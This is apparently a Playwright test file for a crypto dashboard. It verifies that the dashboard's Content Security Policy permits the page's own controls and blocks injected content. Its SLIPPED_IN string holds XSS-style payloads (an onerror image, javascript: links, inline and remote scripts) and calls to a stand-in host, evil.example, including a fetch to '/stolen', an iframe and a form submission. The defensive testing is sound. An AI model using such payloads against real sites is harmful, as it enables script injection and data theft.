"""What the browser is told to forbid: nothing of ours, and all that others slip in."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest

from alphapulse_nb.charts import theme
from tests.conftest import Desk, Served, serve, shot, wait_until, watched
from tests.pages.conftest import TITLES, badge, drawn, layout, open_dashboard, wait_drawn

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

FUNDING = "Funding rates"
ON_BTC = "?symbol=BTC/USDT&range=24h"
PASSWORD = "staple of the desk"

LISTEN = """
document.addEventListener("securitypolicyviolation", (event) => {
    window.__forbidden(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile ?? ""}`);
});
"""
SLIPPED_IN = """() => {
    const box = document.createElement("div");
    box.innerHTML = `<img src="data:," onerror="window.__evil = 1">
        <a href="javascript:window.__evil = 2">x</a><script>window.__evil = 3</` + `script>`;
    document.body.append(box);
    const script = document.createElement("script");
    script.textContent = "window.__evil = 4";
    document.body.append(script);
    const far = document.createElement("script");
    far.src = "https://evil.example/x.js";
    document.body.append(far);
    box.querySelector("a").click();
    box.setAttribute("onclick", "window.__evil = 5");
    box.click();
    fetch("https://evil.example/stolen").catch(() => {});
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example/";
    document.body.append(frame);
    const form = document.createElement("form");
    form.action = "https://evil.example/";
    document.body.append(form);
    form.submit();
    try { setTimeout("window.__evil = 6"); } catch {}
    // Later, since a debugger's own call may evaluate strings whatever the policy says.
    // The form's attempt may have said good-bye to the kernel, and the page then loads again.
    return new Promise((resolve) => setTimeout(() => {
        try { new Function("window.__evil = 7")(); } catch {}
        resolve(window.__evil ?? null);
    }));
}"""


@contextmanager
def strict(browser: Browser, scheme: str = "light", width: int = 1440) -> Iterator[Page]:
    """A page that keeps in `page.faults` what its policy forbids and what its console complains of.

    `page.answers` holds the address and status of all that it got.
    """
    context = browser.new_context(
        viewport={"width": width, "height": 900},
        color_scheme=scheme,  # type: ignore[arg-type]
        accept_downloads=True,
    )
    page = watched(context.new_page())
    page.answers = []  # type: ignore[attr-defined]
    page.expose_function("__forbidden", lambda said: page.faults.append(said))  # type: ignore[attr-defined]
    page.add_init_script(LISTEN)
    page.on(
        "console",
        lambda said: page.faults.append(said.text) if "Content Security Policy" in said.text else 0,  # type: ignore[attr-defined]
    )
    page.on("response", lambda answer: page.answers.append((answer.url, answer.status)))  # type: ignore[attr-defined]
    yield page
    page.goto("about:blank")
    context.close()


@pytest.fixture(scope="module")
def guarded(desk: Desk, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A server under a path, with a password."""
    with serve(
        tmp_path_factory.mktemp("guarded"),
        desk.server.url,
        DASHBOARD_PASSWORD=PASSWORD,
        DASHBOARD_BASE_URL="/desk/one",
        DASHBOARD_MAX_KERNELS="1",
        ALPHAPULSE_REFRESH_INTERVAL="2",
    ) as served:
        yield served


def test_nothing_that_the_dashboard_does_is_forbidden(browser: Browser, served: Served) -> None:
    with strict(browser) as page:
        open_dashboard(page, served.url, ON_BTC)
        use_every_control(page)
        assert_at_home(page, served.url)


def test_under_a_path_and_in_the_dark_it_is_the_same(browser: Browser, guarded: Served) -> None:
    base = f"{guarded.url}desk/one/"
    with strict(browser, "dark") as page:
        page.goto(base + ON_BTC)
        sign_in(page, PASSWORD)
        wait_drawn(page)
        assert page.url == base + ON_BTC
        use_every_control(page)
        assert_at_home(page, base)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_small_pages_break_no_policy_and_can_be_read_on_any_screen(
    browser: Browser, guarded: Served, scheme: str
) -> None:
    base = f"{guarded.url}desk/one/"
    with strict(browser, scheme) as holder:
        holder.goto(f"{base}login")
        sign_in(holder, PASSWORD)
        wait_drawn(holder)
        for device, width in (("desktop", 1440), ("phone", 390)):
            with strict(browser, scheme, width) as page:
                see_small_pages(page, base, f"{device}-{scheme}")
                assert page.faults == []  # type: ignore[attr-defined]
                assert {urlsplit(url).netloc for url in page.asked} == {urlsplit(base).netloc}  # type: ignore[attr-defined]


def sign_in(page: Page, password: str) -> None:
    page.get_by_label("Password").fill(password)
    page.get_by_role("button", name="Sign in").click()


def see_small_pages(page: Page, base: str, name: str) -> None:
    """Each in the order in which a visitor may meet them; the only place is taken."""
    page.goto(base)
    look(page, "Sign in", f"sign-in-{name}")
    sign_in(page, "not it")
    page.get_by_role("alert").wait_for()
    look(page, "Sign in", f"sign-in-wrong-{name}")
    sign_in(page, PASSWORD)
    look(page, "One moment, please", f"busy-{name}")
    for path, heading, called in (
        ("logout", "Sign out", "sign-out"),
        ("nowhere", "Not found", "not-found"),
        ("api/docs", "API", "docs"),
    ):
        page.goto(base + path)
        look(page, heading, f"{called}-{name}")
    page.context.clear_cookies(name=re.compile("visit"))
    page.goto(f"{base}?visit=new")
    look(page, "", f"no-cookies-{name}")


def look(page: Page, heading: str, name: str) -> None:
    """The page has that heading, the theme's ground, and nothing that sticks out."""
    page.locator("h1", has_text=heading).wait_for()
    width = page.viewport_size["width"] if page.viewport_size else 0
    assert page.evaluate("document.documentElement.scrollWidth") == width
    dark = page.evaluate("matchMedia('(prefers-color-scheme: dark)').matches")
    shade = theme.PALETTE["ground"]
    red, green, blue = bytes.fromhex((shade.dark if dark else shade.light)[1:])
    ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert ground == f"rgb({red}, {green}, {blue})"
    shot(page, name)


def use_every_control(page: Page) -> None:
    """Each once, until what it does has happened."""
    page.locator(".ap-select").first.select_option("ETH/USDT")
    page.locator('.ap-range input[value="6h"]').check(force=True)
    wait_drawn(page)
    zoom(page)
    page.get_by_label("Time zone").select_option("Asia/Tokyo")
    page.get_by_label("Refresh every").select_option("5")
    for name in ("Pause", "Resume"):
        page.get_by_role("button", name=name).click()
        wait_until(lambda name=name: (badge(page) == "paused") is (name == "Pause"))
    dark = page.evaluate("document.body.dataset.jpThemeLight") == "false"
    for name in ("Light", "Dark")[:: 1 if dark else -1]:
        page.get_by_role("button", name=name, exact=True).click()
        wait_until(lambda: page.evaluate("document.body.dataset.jpThemeLight"))
    for title in TITLES:
        toggle = page.locator(f'.ap-panel[data-title="{title}"] [aria-pressed]')
        for pressed in ("true", "false"):
            toggle.click()
            assert toggle.get_attribute("aria-pressed") == pressed
    wait_until(lambda: page.locator(".js-plotly-plot:visible").count() == len(TITLES))
    assert drawn(page, FUNDING)
    with page.expect_download() as saved:
        page.evaluate(
            "Plotly.downloadImage(document.querySelector('.js-plotly-plot'), {format: 'png'})"
        )
    assert saved.value.path().read_bytes().startswith(b"\x89PNG")


def zoom(page: Page) -> None:
    before = layout(page, FUNDING)["x"]
    box = page.locator(f'.ap-panel[data-title="{FUNDING}"] .nsewdrag').first.bounding_box()
    assert box is not None
    middle = box["y"] + box["height"] / 2
    page.mouse.move(box["x"] + box["width"] * 0.3, middle)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] * 0.5, middle, steps=5)
    page.mouse.up()
    wait_until(lambda: layout(page, FUNDING)["x"] != before)


def assert_at_home(page: Page, base: str) -> None:
    """Nothing was forbidden, nothing is missing, and all came from this server's address."""
    asked = [url for url in page.asked if not url.startswith(("blob:", "data:"))]  # type: ignore[attr-defined]
    home = urlsplit(base)
    assert {urlsplit(url).netloc for url in asked} == {home.netloc}
    assert [url for url in asked if not urlsplit(url).path.startswith(home.path)] == []
    assert [answer for answer in page.answers if answer[1] >= 400] == []  # type: ignore[attr-defined]
    assert page.faults == []  # type: ignore[attr-defined]


def test_what_is_slipped_into_the_page_neither_runs_nor_talks(
    browser: Browser, served: Served
) -> None:
    with strict(browser) as page:
        open_dashboard(page, served.url, ON_BTC)
        assert page.evaluate(SLIPPED_IN) is None
        kinds = {
            "script-src-attr inline",
            "script-src-elem inline",
            "script-src-elem https://evil.example/x.js",
            "connect-src https://evil.example/stolen",
            "frame-src https://evil.example",
            "form-action https://evil.example/?",
            "script-src eval",
        }
        wait_until(
            lambda: kinds <= kinds_of(page),
            10,
            lambda: f"{kinds - kinds_of(page)} {kinds_of(page)}",
        )
        assert [answer for answer in page.answers if "evil" in answer[0]] == []  # type: ignore[attr-defined]
        assert page.url == served.url + ON_BTC


def kinds_of(page: Page) -> set[str]:
    """What was forbidden, as directive and target. Lets what the page has to say come in."""
    page.wait_for_timeout(50)
    return {" ".join(fault.split(" ")[:2]) for fault in page.faults}  # type: ignore[attr-defined]
